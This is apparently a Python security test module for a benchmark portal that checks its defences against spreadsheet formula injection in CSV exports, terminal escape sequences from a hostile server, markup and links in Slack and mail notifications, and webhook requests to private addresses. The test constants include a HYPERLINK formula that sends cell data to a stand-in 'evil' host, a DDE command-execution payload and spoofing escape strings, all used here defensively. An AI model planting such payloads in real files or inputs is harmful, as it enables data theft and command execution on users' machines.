"""Texts that others' programs execute or show: spreadsheets (M6), terminals (L4), mail and Slack (L5), URLs (L9)."""

from __future__ import annotations

import csv
import io
import json
import os
import subprocess
import sys
import tempfile
import time
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path

from benchmarks.attacks.portal import Answer, Attacked, Row, row
from benchmarks.report_faults import ROOT

FORMULA, CALCULATOR = '=HYPERLINK("http://evil/?"&A1,"x")', "=cmd|'/c calc'!A1"
FIRST_SIGNS = ("=", "+", "@", "-", "\t", "\r", "\n", "＝", "＋", "＠", "－")
ESCAPES = "\x1b]0;owned\x07\x1b[31m\r\nsent: everything\u202e"
COMMAND = {"command": ["python", "train.py", "{batch_size}"], "batch": "template"}


def formulas(portal: Attacked) -> Iterator[Row]:
    from django.test import Client

    from tests.factories.reports import make_events, make_probes, make_refusal, make_run_key

    sender = portal.person()
    answer = sender.begin(key := make_run_key(), kind="command", spec={**COMMAND, "name": FORMULA})
    run_id = answer.json()["id"]
    refused = make_refusal(9, error_type=FORMULA, error_message=CALCULATOR).to_dict()
    events = [*make_events(make_probes()[:1]), {"event": "probe", "seconds": 3.0, "probe": refused}]
    sender.send_events(key, 0, *events, {"event": "error", "error": {"code": CALCULATOR, "message": FORMULA}})
    files = {address: portal.reader.get(address) for address in ("/runs/export.csv", "/api/v1/runs/export.csv")}
    files["/runs/N/export.csv"] = portal.reader.get(f"/runs/{run_id}/export.csv")
    client, began = Client(headers={"Host": "127.0.0.1"}), time.monotonic()
    client.force_login(portal.superuser)
    found = client.post("/admin/analysis/run/", {"action": "export_csv", "_selected_action": [run_id]})
    text = b"".join(found.streaming_content) if found.streaming else found.content
    files["the admin panel's export"] = Answer(found.status_code, time.monotonic() - began, text.decode())
    for what, answer in files.items():
        cells = [cell for line in csv.reader(io.StringIO(answer.text, newline="")) for cell in line]
        wrong = [cell for cell in cells if cell.lstrip(" ").startswith(FIRST_SIGNS) and not _is_number(cell)]
        planted = sorted({cell for cell in cells if "HYPERLINK" in cell or "calc" in cell})
        held = answer.status == 200 and not wrong and bool(planted)
        said = f"{answer.status}; {len(planted)} planted cells, such as {planted[:2]}; formulas: {wrong[:2]}"
        yield row(
            "M6",
            f"name, error code and message that are formulas, in {what}",
            "none",
            held,
            said,
            seconds=answer.seconds,
        )


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def terminal_escapes(portal: Attacked) -> Iterator[Row]:
    """Answer `sync` and a run that reports as a hostile portal would, and read what the terminal gets."""
    with _hostile_portal() as url, tempfile.TemporaryDirectory(prefix="memorymark-hostile-") as name:
        folder = Path(name)
        runs = folder / "runs"
        runs.mkdir()
        result = {"spec": {}, "device": {}, "environment": {"run_key": "a1" * 16}}
        (runs / f"{'a1' * 16}.json").write_text(json.dumps({"exit_status": 0, "result": result}))
        small = ["bert-tiny", "cpu", "--memory-limit", "128MiB", "--max", "2", "--time-budget", "60"]
        for what, arguments in (
            ("sync", ["sync", str(runs), "--report-to", url]),
            ("sync, which it refuses", ["sync", str(runs), "--report-to", f"{url}/refusing"]),
            ("the end of a run", [*small, "--report-to", url, "--runs-dir", str(folder / "own")]),
        ):
            environment = {**os.environ, "MEMORYMARK_TOKEN": "mm_p_made_up", "XDG_CACHE_HOME": str(folder)}
            began = time.monotonic()
            done = subprocess.run(
                [sys.executable, "-m", "engine", *arguments],
                cwd=ROOT,
                env=environment,
                capture_output=True,
                timeout=300,
                check=False,
            )
            text = (done.stdout + done.stderr).decode()
            line = next((each for each in text.splitlines() if "evil.example" in each), "")
            bad = sorted({sign for sign in text if not sign.isprintable() and sign != "\n"})
            said = f"exit status {done.returncode}: {line[:160]!r}; control characters: {bad}"
            held = bool(line) and not bad and "\nsent: everything" not in text
            tried = f"a portal whose answer holds escapes and a line of its own, at {what}"
            yield row("L4", tried, "one printable line", held, said, seconds=time.monotonic() - began)


@contextmanager
def _hostile_portal() -> Iterator[str]:
    from tests.engine.report.loopback_portal import LoopbackPortal, serving

    def fault(path: str, _: int) -> tuple[int, dict[str, object]]:
        place: dict[str, object] = {"id": 1, "url": f"http://evil.example/{ESCAPES}", "sha256": ESCAPES}
        if path.endswith("/known/"):
            return 200, {"known": {}}
        if path.startswith("/refusing"):
            return 422, {"detail": f"refused by evil.example {ESCAPES}", "errors": [{"field": ESCAPES}]}
        return 201, {**place, "next": 10_000, "heartbeat_seconds": 1.0, "cancel_requested": False}

    with serving(LoopbackPortal(fault=fault)) as portal:
        yield portal.url


def names_in_messages(portal: Attacked) -> Iterator[Row]:
    from analysis.models import NewsEvent, NewsKind, Run
    from analysis.news.fan_out import dispatch_waiting
    from analysis.news.messages import body_of, mail_text, slack_text
    from tests.factories.reports import make_run_key

    sender = portal.person()
    for what, name in (("empty", ""), ("of blanks", "  "), ("of 5,000 letters", "a" * 5_000), ("of two lines", "a\nb")):
        answer = sender.begin(make_run_key(), kind="command", spec={**COMMAND, "name": name})
        yield row("L5", f"a name {what}", "400, by its field", answer.status == 400, answer)
    evil = "*Pay* `a` http://evil [x](www.evil) <!x>"
    run_id = sender.begin(key := make_run_key(), kind="command", spec={**COMMAND, "name": evil}).json()["id"]
    sender.send_events(key, 0, {"event": "error", "error": {"code": "workload_failed", "message": evil}})
    while dispatch_waiting():
        pass
    run = Run.objects.with_places().get(pk=run_id)
    body = body_of(NewsEvent.objects.get(run=run, kind=NewsKind.FAILED), run)
    mail, slack = mail_text(body), slack_text(body).rpartition(" <")[0]
    signs = [each for each in ("*", "`", "~", "[here]", "://", "<", ">", "www.evil") if each in slack]
    signs = [each for each in signs if each not in ("<", ">") or each in slack.replace("&lt;", "").replace("&gt;", "")]
    yield row("L5", "markup and addresses in a name, in Slack", "no markup and no link of it", not signs, slack)
    held = "http://evil" not in mail and "www.evil" not in mail
    yield row("L5", "the same in mail", "nothing that becomes a link", held, mail.splitlines()[0])


def places_of_news(portal: Attacked) -> Iterator[Row]:
    from analysis.models import AllowedHost
    from analysis.news.post import post

    person, refused = portal.person(), "refused: not public, or not allowed on this port"
    AllowedHost.objects.get_or_create(host="127.0.0.1:9")
    for what, url in (
        ("an address of documentation, 3fff::/20", "https://[3fff::1]/hook"),
        ("an allowed host on another port: this portal's own /analyze", f"http://127.0.0.1:{portal.port}/analyze"),
        ("a private address", "https://10.1.2.3/hook"),
        ("a private address inside IPv6", "https://[::ffff:10.0.0.1]/hook"),
    ):
        body = {"name": what[:30], "channel": "webhook", "kinds": ["run.finished"], "url": url}
        answer = person.post("/api/v1/subscriptions/", body)
        yield row("L9", what, refused, answer.status == 400, answer)
    outcome = post("https://localhost/hook", b"{}", {}, is_allowed=False, seconds=5)
    held = not outcome.is_delivered and "127.0.0.1" not in outcome.reason and "::1" not in outcome.reason
    tried = "the delivery log of a name that stands for an address inside"
    yield row("L9", tried, "the name, not the address", held, outcome.reason, seconds=outcome.seconds)


ATTACKS = (formulas, terminal_escapes, names_in_messages, places_of_news)
